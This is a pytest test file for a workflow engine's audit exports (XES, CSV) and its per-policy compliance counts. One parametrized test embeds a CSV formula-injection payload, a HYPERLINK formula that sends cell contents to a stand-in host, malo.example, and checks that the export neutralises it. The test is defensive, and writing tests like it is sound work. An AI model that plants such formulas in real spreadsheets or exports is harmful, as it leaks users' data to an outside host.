"""The quality office's view: trail exports (CSV, XES) and compliance per policy."""

from __future__ import annotations

import csv
import io
import shutil
from html import escape
from pathlib import Path

import pytest
from lxml import etree

from engine import Engine
from engine.audit.quality import compliance, export_csv, export_xes
from tests.helpers import complete
from tests.integration.scenario_run import ScenarioRun
from tests.integration.test_script_incidents import SCRIPTS


def test_the_xes_log_has_one_trace_per_case_with_named_timestamped_activities(
    scenario_run: ScenarioRun,
) -> None:
    keys = scenario_run.business_keys("P001")
    with scenario_run.engine.sessions() as session:
        log = etree.fromstring(export_xes(session, "P001"))
    traces = log.findall("trace")
    assert [t.find("string[@key='concept:name']").get("value") for t in traces] == keys
    first = [e.find("string[@key='concept:name']").get("value") for e in traces[0].findall("event")]
    assert first[:3] == ["Invitación recibida", "Proponer delegado", "Aprobar delegación"]
    assert "Diligenciar ficha técnica de delegación" in first
    assert not any(name.startswith("gw_") for name in first)  # gateways are not activities
    for event in traces[0].findall("event"):
        assert event.find("date[@key='time:timestamp']").get("value").endswith("+00:00")
        assert event.find("string[@key='org:resource']").get("value")


def test_the_csv_has_every_audit_event_with_its_hash(scenario_run: ScenarioRun) -> None:
    keys = scenario_run.business_keys("P001")
    with scenario_run.engine.sessions() as session:
        rows = list(csv.DictReader(io.StringIO(export_csv(session, "P001"))))
    assert {row["case"] for row in rows} == set(keys)
    assert all(len(row["hash"]) == 64 for row in rows)
    assert [row["seq"] for row in rows if row["case"] == keys[0]][:3] == ["1", "2", "3"]


def test_compliance_counts_what_each_policy_asks(scenario_run: ScenarioRun) -> None:
    with scenario_run.engine.sessions() as session:
        figures = {f.policy: f for f in compliance(session, scenario_run.clock.now())}
    assert figures["3"].total >= 4 and figures["3"].met < figures["3"].total  # one ficha came late
    assert figures["2"].total >= 1 and figures["2"].met == figures["2"].total
    assert figures["4"].total >= 1
    assert figures["1"].total >= 1


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralized(
    engine: Engine, tmp_path: Path, lead: str
) -> None:
    """An element name from an analyst's diagram reaches the quality office's spreadsheet: a
    leading =, +, -, @, tab or CR is prefixed with ' so it stays text."""
    name = f'{lead}HYPERLINK("https://malo.example/?d="&A1,"Ver")'
    attribute = escape(name, quote=True).replace("\t", "&#9;").replace("\r", "&#13;")
    bpmn = tmp_path / "bpmn" / "SCRIPTS.bpmn"
    bpmn.parent.mkdir()
    bpmn.write_text(
        SCRIPTS.read_text().replace('name="Repartir el presupuesto"', f'name="{attribute}"')
    )
    shutil.copytree(SCRIPTS.parent.parent / "forms", tmp_path / "forms")
    engine.deploy([bpmn], "analista")
    key = engine.start("SCRIPTS", "despacho", {})
    complete(engine, key, "repartir", "despacho", {"partes": 4})
    with engine.sessions() as session:
        rows = list(csv.DictReader(io.StringIO(export_csv(session, "SCRIPTS"))))
    names = {row["element_name"] for row in rows if row["element"] == "repartir"}
    assert names == {"'" + name}
    assert {row["case"] for row in rows} == {key}  # plain cells are left as they are
